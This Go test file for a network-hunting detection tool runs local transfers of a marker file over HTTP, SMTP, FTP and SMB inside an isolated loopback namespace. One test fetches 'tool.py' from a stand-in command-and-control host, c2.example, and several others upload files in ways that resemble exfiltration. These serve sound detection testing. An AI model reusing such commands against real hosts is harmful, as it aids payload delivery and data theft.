package main

import (
	"crypto/sha256"
	"crypto/x509"
	"encoding/pem"
	"fmt"
	"net"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"runtime"
	"strings"
	"syscall"
	"testing"
	"time"

	"golang.org/x/sys/unix"

	"github.com/besra-hunt/besra"
)

// exchange is a transfer between programs of the distribution, and what a hunt
// that listens must find of it.
type exchange struct {
	name  string
	serve func(t *testing.T, dir string) // starts what is talked to
	talk  string                         // a line for the shell, in the folder
	want  string                         // how the target's name ends
	facts string                         // an exclusion that holds of it
	gap   string                         // the reason of a gap that is told, too
}

// TestPeers hunts on an interface of a network of its own, where nothing else is
// and every port is free, while programs of the distribution talk over it.
func TestPeers(t *testing.T) {
	if testing.Short() {
		t.Skip("starts servers")
	}
	const web = `net.src.port == 80 && net.host == '127.0.0.1' && net.url == 'http://127.0.0.1/`
	const up = `net.dst.port == 80 && net.src.ip == '127.0.0.1' && net.url == 'http://127.0.0.1/in`
	const file, into = `net.proto == 'tcp' && net.dst.ip == '127.0.0.1' && net.src.port > 0`, `&& net.dst.port > 0`
	mail := fmt.Sprintf(`file.sha256 == '%x' && mail.from_domain == 'sender.example'`, sha256.Sum256([]byte(marker)))
	for _, x := range []exchange{
		{"nginx", nginx, `curl -sS -o got http://127.0.0.1/tool.py`, "!http://127.0.0.1/tool.py", web + `tool.py'`, ""},
		{"nginx, gzip in chunks", nginx, `curl -sS --compressed -o got http://127.0.0.1/tool.txt`, "!http://127.0.0.1/tool.txt", web + `tool.txt'`, ""},
		{"nginx, the second of a connection", nginx, `curl -sS -o a http://127.0.0.1/other -o b http://127.0.0.1/tool.py`, "!http://127.0.0.1/tool.py", web + `tool.py'`, ""},
		{"nginx, a name and a port", nginx, `curl -sS --connect-to c2.example:8080:127.0.0.1:80 -o a http://c2.example:8080/tool.py`, "!http://c2.example:8080/tool.py",
			`net.src.port == 80 && net.host == 'c2.example' && net.user_agent.startsWith('curl/')`, ""},
		{"curl sends a form", nginx, `curl -sS -o got -F name=x -F file=@tool.py http://127.0.0.1/in`, "POST http://127.0.0.1/in!tool.py", up + `'`, ""},
		{"curl sends a file", nginx, `curl -sS -o got -T tool.py http://127.0.0.1/in/`, "PUT http://127.0.0.1/in/tool.py", up + `/tool.py'`, ""},
		{"curl waits to go on", nginx, `curl -sS -o got -H 'Expect: 100-continue' -T tool.py http://127.0.0.1/in/`, "PUT http://127.0.0.1/in/tool.py", up + `/tool.py'`, ""},
		{"curl sends chunks", nginx, `curl -sS -o got -T - http://127.0.0.1/in/x <tool.py`, "PUT http://127.0.0.1/in/x", up + `/x'`, ""},
		{"python", python, `curl -sS -o got http://127.0.0.1/tool.py`, "!http://127.0.0.1/tool.py", web + `tool.py'`, ""},
		{"swaks", smtpSink, `swaks --silent 2 --server 127.0.0.1 -f a@sender.example -t c@d.example --attach-name tool.py --attach @tool.py`, "!tool.py", mail, ""},
		{"swaks, pipelined", smtpSink, `swaks --silent 2 --pipeline --server 127.0.0.1 -f a@sender.example -t c@d.example --attach-name tool.py --attach @tool.py`, "!tool.py", mail, ""},
		{"curl sends a mail", smtpSink, `curl -sS --url smtp://127.0.0.1 --mail-from a@sender.example --mail-rcpt c@d.example -T mail.eml`, "!tool.py", mail, ""},
		{"vsftpd, EPSV", vsftpd, `curl -sS -o got ftp://127.0.0.1/tool.py`, "!ftp/tool.py", file, ""},
		{"vsftpd, PASV", vsftpd, `curl -sS -o got --disable-epsv ftp://127.0.0.1/tool.py`, "!ftp/tool.py", file, ""},
		{"vsftpd, EPRT", vsftpd, `curl -sS -o got -P - ftp://127.0.0.1/tool.py`, "!ftp/tool.py", file + ` && net.src.port == 20`, ""},
		{"vsftpd, PORT", vsftpd, `curl -sS -o got -P - --disable-eprt ftp://127.0.0.1/tool.py`, "!ftp/tool.py", file + ` && net.src.port == 20`, ""},
		{"vsftpd, IPv6", vsftpd, `curl -sS -g -o got 'ftp://[::1]/tool.py'`, "!ftp/tool.py", `net.src.ip == '::1'`, ""},
		{"vsftpd, IPv6 and EPRT", vsftpd, `curl -sS -g -o got -P - 'ftp://[::1]/tool.py'`, "!ftp/tool.py", `net.src.ip == '::1'`, ""},
		{"vsftpd, a folder and a second file", vsftpd, `curl -sS -o a ftp://127.0.0.1/other -o b ftp://127.0.0.1/sub/tool.py`, "!ftp/sub/tool.py", file, ""},
		{"vsftpd, upload, EPSV", vsftpd, `curl -sS -T tool.py ftp://127.0.0.1/in/`, "!ftp/in/tool.py", file + into, ""},
		{"vsftpd, upload, PORT", vsftpd, `curl -sS -P - --disable-eprt -T tool.py ftp://127.0.0.1/in/`, "!ftp/in/tool.py", file + into, ""},
		{"vsftpd, TLS", vsftpd, `curl -sS -k --ssl-reqd -o got ftp://127.0.0.1/tool.py && curl -sS -o got ftp://127.0.0.1/sub/tool.py`, "!ftp/sub/tool.py", file, "encrypted"},
		{"smbclient reads", smbd, `smbclient -N //127.0.0.1/share -c 'get tool.py got' 2>&1 || exit 1`, `\tool.py`, `net.src.port == 445`, ""},
		{"smbclient writes", smbd, `smbclient -N //127.0.0.1/share -c 'cd in; put tool.py in.py' 2>&1 || exit 1`, `\in.py`, `net.dst.port == 445`, ""},
	} {
		t.Run(x.name, func(t *testing.T) {
			t.Parallel()
			isolated(t)
			x.run(t)
		})
	}
}

func (x *exchange) run(t *testing.T) {
	program, _, _ := strings.Cut(x.talk, " ")
	if _, err := exec.LookPath(program); err != nil {
		t.Skip(err)
	}
	dir := t.TempDir()
	x.files(t, dir)
	x.serve(t, dir)
	pack := (&spot{in: besra.ContextNetwork}).pack(t, x.facts)
	if strings.Contains(x.facts, "mail.") {
		pack = (&spot{in: besra.ContextMail}).pack(t, x.facts)
	}
	f := live(t, func() error {
		cmd := exec.Command("sh", "-c", x.talk)
		cmd.Dir = dir
		if said, err := cmd.CombinedOutput(); err != nil {
			return fmt.Errorf("%s: %w: %s", x.talk, err, said)
		}
		return nil
	}, wanted{x.want, x.gap}, "--pack", pack)
	if f == nil {
		return
	}
	if got := f.Patterns[0].Matches[0].Offset; got != markerAt {
		t.Errorf("got offset %d, want %d", got, markerAt)
	}
	if f.Verdict != besra.VerdictSuppressed {
		t.Errorf("%s is %s, want suppressed: %+v", f.Target.Name, f.Verdict, f.Decisions)
	}
}

// files lays out what is served and sent. Others than root read it.
func (x *exchange) files(t *testing.T, dir string) {
	for up := dir; up != os.TempDir() && up != "/"; up = filepath.Dir(up) {
		os.Chmod(up, 0o755)
	}
	for sub, mode := range map[string]os.FileMode{"sub": 0o755, "in": 0o777, "run": 0o777, "empty": 0o555} {
		if err := os.Mkdir(filepath.Join(dir, sub), mode); err != nil {
			t.Fatal(err)
		}
		os.Chmod(filepath.Join(dir, sub), mode)
	}
	for name, text := range map[string]string{"tool.py": marker, "tool.txt": marker, "sub/tool.py": marker, "other": "nothing here\n",
		"mail.eml": strings.ReplaceAll(attached("base64"), "\n", "\r\n")} {
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o644); err != nil {
			t.Fatal(err)
		}
	}
}

// isolated gives the goroutine, and what it starts, a network of its own with
// nothing but a loopback interface. Its thread ends with the goroutine.
func isolated(t *testing.T) {
	runtime.LockOSThread()
	if err := unix.Unshare(unix.CLONE_NEWNET); err != nil {
		t.Skipf("a network of its own: %v", err)
	}
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer unix.Close(fd)
	lo, err := unix.NewIfreq("lo")
	if err != nil {
		t.Fatal(err)
	}
	lo.SetUint16(unix.IFF_UP | unix.IFF_RUNNING)
	if err := unix.IoctlIfreq(fd, unix.SIOCSIFFLAGS, lo); err != nil {
		t.Fatal(err)
	}
}

// start runs a server until the test ends, and waits for its port.
func start(t *testing.T, port int, program string, args ...string) {
	t.Helper()
	path, err := exec.LookPath(program)
	if err != nil {
		t.Skip(err)
	}
	cmd := exec.Command(path, args...)
	var said strings.Builder
	cmd.Stdout, cmd.Stderr = &said, &said
	cmd.SysProcAttr = &syscall.SysProcAttr{Setpgid: true, Pdeathsig: syscall.SIGKILL}
	if err := cmd.Start(); err != nil {
		t.Fatal(err)
	}
	ended := make(chan struct{})
	go func() { cmd.Wait(); close(ended) }()
	t.Cleanup(func() { syscall.Kill(-cmd.Process.Pid, syscall.SIGKILL); <-ended })
	poll := time.NewTicker(5 * time.Millisecond)
	defer poll.Stop()
	for {
		c, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", port))
		if err == nil {
			c.Close()
			return
		}
		select {
		case <-ended:
			t.Fatalf("%s ended: %s", program, said.String())
		case <-t.Context().Done():
			t.Fatal(t.Context().Err())
		case <-poll.C:
		}
	}
}

// settings writes a file for a server and returns its path.
func settings(t *testing.T, dir, format string, args ...any) string {
	name := filepath.Join(dir, "run", "settings")
	if err := os.WriteFile(name, fmt.Appendf(nil, format, args...), 0o644); err != nil {
		t.Fatal(err)
	}
	return name
}

func nginx(t *testing.T, dir string) {
	start(t, 80, "nginx", "-c", settings(t, dir, `daemon off; master_process off; pid %[1]s/run/pid; error_log stderr;
events {}
http {
	access_log off; default_type text/plain; client_body_temp_path %[1]s/run; proxy_temp_path %[1]s/run; fastcgi_temp_path %[1]s/run;
	uwsgi_temp_path %[1]s/run; scgi_temp_path %[1]s/run;
	server {
		listen 127.0.0.1:80; root %[1]s;
		location = /tool.txt { gzip on; gzip_min_length 1; gzip_types *; }
		location /in { client_max_body_size 10m; proxy_pass http://127.0.0.1:81; }
	}
	server { listen 127.0.0.1:81; location / { return 200; } }
}`, dir))
}

func python(t *testing.T, dir string) {
	start(t, 80, "python3", "-m", "http.server", "--bind", "127.0.0.1", "--directory", dir, "80")
}

func smtpSink(t *testing.T, dir string) {
	start(t, 25, "smtp-sink", "-u", "nobody", "127.0.0.1:25", "10")
}

func vsftpd(t *testing.T, dir string) {
	cert, key := filepath.Join(dir, "run", "cert"), filepath.Join(dir, "run", "key")
	writeCertificate(t, cert, key)
	start(t, 21, "vsftpd", settings(t, dir, `background=NO
listen=NO
listen_ipv6=YES
anonymous_enable=YES
no_anon_password=YES
anon_root=%[1]s
anon_upload_enable=YES
anon_other_write_enable=YES
write_enable=YES
ftp_username=ftp
secure_chroot_dir=%[1]s/empty
connect_from_port_20=YES
isolate=NO
isolate_network=NO
seccomp_sandbox=NO
ssl_enable=YES
allow_anon_ssl=YES
require_ssl_reuse=NO
ssl_ciphers=HIGH
rsa_cert_file=%[2]s
rsa_private_key_file=%[3]s
`, dir, cert, key))
}

func smbd(t *testing.T, dir string) {
	start(t, 445, "smbd", "-F", "--no-process-group", "--debug-stdout", "--configfile", settings(t, dir, `[global]
interfaces = 127.0.0.1
bind interfaces only = yes
smb ports = 445
server role = standalone server
map to guest = Bad User
guest account = nobody
disable spoolss = yes
load printers = no
private dir = %[1]s/run
lock directory = %[1]s/run
state directory = %[1]s/run
cache directory = %[1]s/run
pid directory = %[1]s/run
ncalrpc dir = %[1]s/run/nc
[share]
path = %[1]s
guest only = yes
read only = no
`, dir))
}

// writeCertificate writes a certificate for tests with its key.
func writeCertificate(t *testing.T, cert, key string) {
	web := httptest.NewTLSServer(nil)
	defer web.Close()
	pair := web.TLS.Certificates[0]
	private, err := x509.MarshalPKCS8PrivateKey(pair.PrivateKey)
	if err != nil {
		t.Fatal(err)
	}
	for name, block := range map[string]*pem.Block{cert: {Type: "CERTIFICATE", Bytes: pair.Certificate[0]}, key: {Type: "PRIVATE KEY", Bytes: private}} {
		if err := os.WriteFile(name, pem.EncodeToMemory(block), 0o600); err != nil {
			t.Fatal(err)
		}
	}
}
